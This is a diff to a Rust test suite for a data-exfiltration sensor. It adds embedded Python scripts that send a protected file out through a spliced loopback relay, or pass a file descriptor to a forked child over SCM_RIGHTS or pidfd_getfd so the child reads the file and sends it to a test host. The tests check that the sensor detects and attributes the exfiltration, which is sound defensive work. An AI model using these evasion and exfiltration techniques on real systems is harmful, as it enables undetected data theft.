@@ -196,12 +196,14 @@ while True:
     data += b
 o = socket.create_connection((sys.argv[3], int(sys.argv[4]))); o.sendall(data); o.close()
 ";
-/// `python3 client.py KIND WHERE`: connects to the relay (retrying until it listens) and
-/// sends its stdin in two halves, 0.2 s apart (see docs/detections.md, "Relays": a receiver
-/// that reads the data before the sender's call returns is not seen).
-const PY_CLIENT: &str = "import socket, sys, time
+/// `python3 client.py KIND WHERE [splice]`: connects to the relay (retrying until it listens)
+/// and sends its stdin in two halves, 0.2 s apart (see docs/detections.md, "Relays": a
+/// receiver that reads the data before the sender's call returns is not seen); with `splice`
+/// it splices the stdin pipe into the socket the same way.
+const PY_CLIENT: &str = "import os, socket, sys, time
 kind, where = sys.argv[1], sys.argv[2]
-data = sys.stdin.buffer.read()
+splice = sys.argv[3:] == ['splice']
+data = b'' if splice else sys.stdin.buffer.read()
 for _ in range(200):
     try:
         if kind == 'unix':
@@ -211,6 +213,10 @@ for _ in range(200):
         break
     except OSError:
         time.sleep(0.05)
+if splice:
+    os.splice(0, u.fileno(), 20000); time.sleep(0.2)
+    while os.splice(0, u.fileno(), 65536) > 0: pass
+    u.close(); sys.exit()
 half = len(data) // 2
 u.sendall(data[:half]); time.sleep(0.2); u.sendall(data[half:]); u.close()
 ";
@@ -316,7 +322,7 @@ fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
         mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
     }
     let cg = Cgroup::new();
-    let host = FakeHost::new(&[9301, 9302]);
+    let host = FakeHost::new(&[9301, 9302, 9303]);
     let users = test_users("relays_run_by_another_user", 2);
     let (relay_user, login_user) = (&users[0], &users[1]);
     let mut s = setup(&cg, 1, "    action: alert\n");
@@ -332,10 +338,15 @@ fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
     assert_ne!(origin_uid, relay_user.uid);
     let listen_port = 19_000 + (test_pid() % 1000) as u16;
     let abstract_name = format!("@mnsensor-relay-{}", test_pid());
-    for (kind, place, port) in [("unix", abstract_name, 9301), ("tcp", listen_port.to_string(), 9302)] {
+    // The third client splices the pipe into the loopback socket (splice, not send).
+    for (kind, place, port, how) in [
+        ("unix", abstract_name, 9301, ""),
+        ("tcp", listen_port.to_string(), 9302, ""),
+        ("tcp", (listen_port + 1).to_string(), 9303, "splice"),
+    ] {
         let code = cg.run(&format!(
             "setpriv --reuid={uid} --regid={gid} --clear-groups /usr/bin/python3 {relay} {kind} {place} {ip} {port} & \
-             (echo {auid} > /proc/self/loginuid && exec cat {file}) | python3 {client} {kind} {place}; wait",
+             (echo {auid} > /proc/self/loginuid && exec cat {file}) | python3 {client} {kind} {place} {how}; wait",
             uid = relay_user.uid,
             gid = relay_user.gid,
             auid = login_user.uid,
@@ -344,10 +355,10 @@ fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
             ip = host.ip,
             file = path_str(&file),
         ));
-        assert_eq!(code, 0, "{kind} relay");
-        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{kind} relay delivered");
-        let d = s.sensor.wait_for(&format!("exfiltration through a {kind} relay"), exfil_to(port));
-        let what = format!("{kind} relay: {}", show(&d));
+        assert_eq!(code, 0, "{kind} {how} relay");
+        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{kind} {how} relay delivered");
+        let d = s.sensor.wait_for(&format!("exfiltration through a {kind} {how} relay"), exfil_to(port));
+        let what = format!("{kind} {how} relay: {}", show(&d));
         assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
         assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(relay_user.uid), "{what}");
         assert_eq!(get_str(&d, "process.real_user.name"), relay_user.name, "{what}");
@@ -362,6 +373,73 @@ fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
     // The client's loopback connection is a hand-off, not egress.
     thread::sleep(scaled(Duration::from_secs(2)));
     s.sensor.assert_none("detection for the loopback hop", exfil_to(listen_port));
+    s.sensor.assert_none("detection for the spliced loopback hop", exfil_to(listen_port + 1));
+    s.sensor.stop();
+}
+
+/// `python3 pass.py FILE HOST PORT MODE PIDFILE`: a forked child (untainted: it exists
+/// before the file is opened) gets the parent's descriptor of FILE, over SCM_RIGHTS (MODE
+/// `scm`) or with pidfd_getfd (MODE `pidfd`), reads the file through it and sends it to
+/// HOST:PORT. The parent never reads; it writes the child's pid to PIDFILE.
+const PY_PASS: &str = "import ctypes, os, socket, sys
+f, host, port, mode, pidfile = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
+a, b = socket.socketpair()
+pid = os.fork()
+if pid == 0:
+    a.close()
+    if mode == 'scm':
+        fd = socket.recv_fds(b, 1, 1)[1][0]
+    else:
+        target, num = [int(x) for x in b.recv(64).split()]
+        fd = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(target), num, 0)
+        if fd < 0: sys.exit('pidfd_getfd: errno %d' % ctypes.get_errno())
+    data = b''
+    while chunk := os.read(fd, 65536): data += chunk
+    c = socket.create_connection((host, port)); c.sendall(data); c.close()
+    b.send(b'done')
+    os._exit(0)
+b.close()
+open(pidfile, 'w').write(str(pid))
+fd = os.open(f, os.O_RDONLY)
+if mode == 'scm': socket.send_fds(a, [b'x'], [fd])
+else: a.send(b'%d %d' % (os.getpid(), fd))
+a.recv(4)
+sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
+";
+
+#[test]
+fn a_received_descriptor_taints_the_receiver_that_reads_it() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9501, 9502]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let script = s.outside.write("pass.py", PY_PASS);
+    for (mode, port) in [("scm", 9501), ("pidfd", 9502)] {
+        let pidfile = s.outside.path().join(format!("{mode}.pid"));
+        let code = cg.run(&format!(
+            "python3 {} {} {} {port} {mode} {}",
+            path_str(&script),
+            path_str(&file),
+            host.ip,
+            path_str(&pidfile)
+        ));
+        assert_eq!(code, 0, "pass.py {mode}");
+        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{mode}: delivered");
+        let child: u64 = fs::read_to_string(&pidfile).expect("pid file").trim().parse().expect("pid");
+        let d = s.sensor.wait_for(&format!("exfiltration by the {mode} receiver"), exfil_to(port));
+        let what = format!("{mode}: {}", show(&d));
+        assert_eq!(get_u64(&d, "process.pid"), child, "{what}");
+        assert_eq!(
+            get_u64(&d, "mnsensor.taint.origin.pid"),
+            child,
+            "the receiver read the file itself: {what}"
+        );
+        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
+    }
     s.sensor.stop();
 }
 
